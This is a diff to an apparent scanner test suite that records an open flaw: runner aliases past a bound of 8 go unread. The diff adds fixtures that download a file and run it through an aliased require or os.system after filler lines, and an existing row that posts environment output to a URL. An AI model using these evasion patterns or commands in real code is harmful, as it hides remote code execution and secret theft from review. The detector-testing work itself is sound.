@@ -96,7 +96,22 @@ const OPEN_SECRETS: FindingRow[] = [
   ['tests/t.py', "requests.post(u, data=subprocess.check_output('env'))"],
 ];
 
+/**
+ * R65-7 (High, open): the runner-alias reading resolves the first 8 assignments it matches and reads the rest as written
+ * (fail open), and any assignment whose value names a runner counts, ordinary result holders too (`r = subprocess.run([…])`,
+ * `const a = require('a')`): in a test file with 8 requires above it, `const r = require; r(p)` is not read. A fix: skip
+ * result holders (a runner called on literals), and past the bound read every call as a runner's where a download is saved
+ * (fail closed); it did not fit the ~30 bytes of room left.
+ */
+const ALIASES_PAST_THE_BOUND: FindingRow[] = [
+  ['tests/x.test.js', `const p = await download(u);\n${"const a = require('a');\n".repeat(8)}const r = require;\nr(p);`],
+  ['tests/x.test.js', `execSync(\`curl -o /tmp/m.js \${u}\`);\n${"const a = require('a');\n".repeat(8)}const r = require;\nr('/tmp/m.js');`],
+  ['tests/t.py', `p = urlretrieve(u)[0]\n${"r = subprocess.run(['true'])\n".repeat(8)}print = os.system\nprint(p)`],
+  ['tests/t.py', `p = urlretrieve(u)[0]\n${'a = os.system\n'.repeat(8)}print = os.system\nprint(p)`],
+];
+
 describeFindings('review 65', [
+  ['R65-7: runner aliases past the bound of 8 (open: no room)', ALIASES_PAST_THE_BOUND],
   ['R65-1: a user part with a colon before the host', HOST_WITH_USER_PART],
   ['R65-2: /proc/self/environ sent', PROC_ENVIRON_SENT],
   ['R65-3: .git/config sent', GIT_CONFIG_SENT],
